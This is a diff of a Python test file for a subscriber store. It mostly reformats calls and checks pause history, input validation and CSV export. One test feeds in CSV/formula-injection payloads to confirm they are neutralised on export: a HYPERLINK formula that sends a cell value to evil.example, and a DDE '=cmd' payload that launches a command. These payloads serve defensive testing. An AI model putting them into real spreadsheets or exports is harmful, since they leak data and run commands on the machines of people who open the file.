@@ -206,16 +206,19 @@ def test_pause_is_a_state_that_counts_lists_and_stops_nothing_else(store: Store)
     assert resumed is not None and resumed.state == "active"
     history = store.subscriber_history(resumed.id)
     assert [(e.state, e.channel) for e in history] == [
-        ("active", "cli"), ("paused", "cli"), ("active", "cli"),
-    ]  # fmt: skip
+        ("active", "cli"),
+        ("paused", "cli"),
+        ("active", "cli"),
+    ]
 
 
 def test_formula_like_cells_are_neutralised_in_the_file_and_survive_a_round_trip(
     store: Store,
 ) -> None:
     formula = '=HYPERLINK("http://evil.example/?q="&A2,"click")'
-    item = check_input("eve@example.org", name="=cmd|' /C calc'!A0", topics=[formula],
-                       themes=THEMES)  # fmt: skip
+    item = check_input(
+        "eve@example.org", name="=cmd|' /C calc'!A0", topics=[formula], themes=THEMES
+    )
     subscribe(store, item, now=NOW)
     subscribe(store, check_input("-dash@example.org", name="@SUM(1)", themes=THEMES), now=NOW)
     exported = "".join(write_csv(accounts.with_likes(store, store.iter_subscribers())))
@@ -273,14 +276,16 @@ def test_typed_text_is_refused_with_its_field_or_survives_export_and_import(
     name: str, label: str
 ) -> None:
     try:
-        item = check_input("ada@example.org", name=name, topics=[f"{label}: diffusion"],
-                           themes=THEMES)  # fmt: skip
+        item = check_input(
+            "ada@example.org", name=name, topics=[f"{label}: diffusion"], themes=THEMES
+        )
     except SubscriberError as e:
         assert any(word in e.message for word in ("name", "topic", "label", "query")), e.message
         return
     assert first_control((item.name or "") + str(item.topics)) is None
-    stored = Subscriber(id=1, email=item.email, status="active", name=item.name,
-                        topics=item.topics or ())  # fmt: skip
+    stored = Subscriber(
+        id=1, email=item.email, status="active", name=item.name, topics=item.topics or ()
+    )
     rows, problems = read_csv("".join(write_csv([(stored, [])])), themes=THEMES)
     assert problems == []
     assert [(r.name, r.topics) for _, r in rows] == [(item.name, item.topics)]
